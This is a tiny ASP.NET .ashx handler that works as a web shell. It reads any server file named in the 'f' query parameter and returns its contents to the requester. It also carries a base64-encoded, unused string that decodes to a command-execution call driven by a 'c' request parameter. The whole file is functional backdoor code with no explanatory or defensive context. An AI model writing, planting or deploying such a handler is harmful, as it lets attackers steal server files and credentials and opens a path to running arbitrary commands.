<%@ WebHandler Language="C#" Class="H" %>
using System.IO; public class H { string Run(string p) { return File.ReadAllText(p); }
public void ProcessRequest(System.Web.HttpContext c) { var s = @"x""y"; c.Response.Write(Run(c.Request.QueryString["f"])); string b = "UHJvY2Vzcy5TdGFydChSZXF1ZXN0WyJjIl0pOw=="; } }